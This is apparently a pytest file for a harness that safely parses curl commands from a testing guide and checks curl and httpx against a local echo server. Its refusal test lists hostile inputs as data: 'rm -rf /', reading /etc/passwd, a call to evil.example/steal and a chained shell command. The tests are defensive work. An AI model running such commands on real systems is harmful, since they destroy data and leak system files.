"""The testing guide's commands are parsed, never handed to a shell; only safe options and the target are allowed."""

import pytest

from playbooks.harness.curl import UnsafeCommand, parse, run_with_curl, run_with_httpx

ORIGIN = "http://127.0.0.1:8000"


def test_a_token_command_is_read_with_its_variables_filled():
    request = parse('curl -s -X POST http://127.0.0.1:8000/oauth/token -u "ci_1:$CLIENT_SECRET" -d grant_type=client_credentials',
                    {"CLIENT_SECRET": "cs_test_x"}, origin=ORIGIN)
    assert (request.method, request.url, request.user, request.data) == (
        "POST", "http://127.0.0.1:8000/oauth/token", "ci_1:cs_test_x", ["grant_type=client_credentials"])


def test_a_header_command():
    request = parse('curl -s http://127.0.0.1:8000/api/v1/accounts/balances -H "Authorization: Bearer ${ACCESS_TOKEN}"',
                    {"ACCESS_TOKEN": "at_1"}, origin=ORIGIN)
    assert request.method == "GET" and request.headers == ["Authorization: Bearer at_1"]


@pytest.mark.parametrize("command, reason", [
    ("rm -rf /", "not a curl command"),
    ("curl -o /tmp/x http://127.0.0.1:8000/", "option -o"),
    ("curl -K /etc/passwd http://127.0.0.1:8000/", "option -K"),
    ("curl https://evil.example/steal", "not the portal under test"),
    ("curl http://127.0.0.1:8001/", "not the portal under test"),
    ("curl http://127.0.0.1:8000/ -H \"X: $HOME\"", r"needs \$HOME"),
    ("curl http://127.0.0.1:8000/ http://127.0.0.1:8000/b", "more than one URL"),
    ("curl http://127.0.0.1:8000/; cat /etc/passwd", "more than one URL|not the portal"),
    ("curl -H", "has no value"),
])
def test_unsafe_commands_are_refused(command, reason):
    with pytest.raises(UnsafeCommand, match=reason):
        parse(command, {}, origin=ORIGIN)


def test_curl_and_httpx_send_the_same_request(start_echo_server):
    url = start_echo_server
    request = parse(f'curl -s -X POST {url}/echo -u "ci:se\\"cret" -H "X-Test: 1" -d a=1', {}, origin=url)
    by_httpx = run_with_httpx(request)
    import shutil

    curl = shutil.which("curl")
    if curl is None:
        pytest.skip("curl is not installed; the httpx path is checked above")
    assert run_with_curl(request, curl) == by_httpx
    assert by_httpx[0] == 200 and '"x-test": "1"' in by_httpx[1] and "a=1" in by_httpx[1]


@pytest.fixture
def start_echo_server():
    import json
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class Echo(BaseHTTPRequestHandler):
        def do_POST(self):
            body = self.rfile.read(int(self.headers.get("Content-Length", 0))).decode()
            answer = json.dumps({"x-test": self.headers.get("X-Test"), "auth": self.headers.get("Authorization"), "body": body})
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.end_headers()
            self.wfile.write(answer.encode())

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Echo)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
